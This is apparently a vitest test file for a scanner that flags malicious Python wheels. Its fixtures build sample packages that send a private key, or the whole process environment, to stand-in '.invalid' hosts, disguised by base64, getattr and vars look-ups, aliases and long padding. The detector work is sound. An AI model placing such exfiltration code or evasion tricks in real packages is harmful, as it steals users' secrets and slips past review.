import { describe, expect, test } from 'vitest';
import { inspect, python, wheel } from '../../support/inspect.ts';

/** More Python than is read in full where nothing calls it. */
const FILLER = Array.from({ length: 2_500 }, (_, i) => `def plain_${i}(value):\n    return value + ${i}\n`).join('');

test('a function of a large project is read where it acts under other names', async () => {
  const address = Buffer.from('https://collector.metrics.invalid/a').toString('base64');
  const file = wheel({
    'pkg/__init__.py': FILLER,
    'pkg/account.py': python(
      'from base64 import b64decode as opened',
      'from requests import post as told',
      'def sign(private_key, text):',
      `    told(opened('${address}').decode(), data={'k': private_key})`,
      '    return text',
    ),
  });

  expect(await inspect('hidden-address', file)).toMatchObject([{ class: 'malware', context: 'call', line: 4 }]);
});

describe('a function of a large project that sends the environment is read', () => {
  const SINK = "'https://collect.metrics.invalid/a', data=json.dumps(dict(os.environ)).encode()";

  test.each([
    ['by a look-up of a name in pieces', ['def run():', `    getattr(urllib.request, 'url' + 'open')(${SINK})`]],
    [
      'by a look-up of a name in a variable',
      ['def run():', "    name = 'url' + 'open'", `    getattr(urllib.request, name)(${SINK})`],
    ],
    ['by the dictionary of a module', ['def run():', `    vars(urllib.request)['url' + 'open'](${SINK})`]],
    ['by a name that the module gives', ['tell = urllib.request.urlopen', 'def run():', `    tell(${SINK})`]],
    [
      'by an attribute that a class gives',
      ['class Kit:', '    tell = staticmethod(urllib.request.urlopen)', 'def run():', `    Kit.tell(${SINK})`],
    ],
    [
      'behind 40,000 characters of tables',
      [
        'def run():',
        ...Array.from({ length: 1_200 }, (_, i) => `    row_${i} = [${i}, ${i} * 2, 'row number ${i}']`),
        `    urllib.request.urlopen(${SINK})`,
      ],
    ],
  ])('%s', async (_, lines) => {
    const file = wheel({
      'pkg/__init__.py': FILLER,
      'pkg/account.py': python('import json, os, urllib.request', ...lines),
    });

    const [strongest] = await inspect('exfiltration', file);

    expect(strongest).toMatchObject({ context: 'call', path: 'pkg/account.py' });
    expect(strongest?.score).toBeGreaterThanOrEqual(6);
  });
});
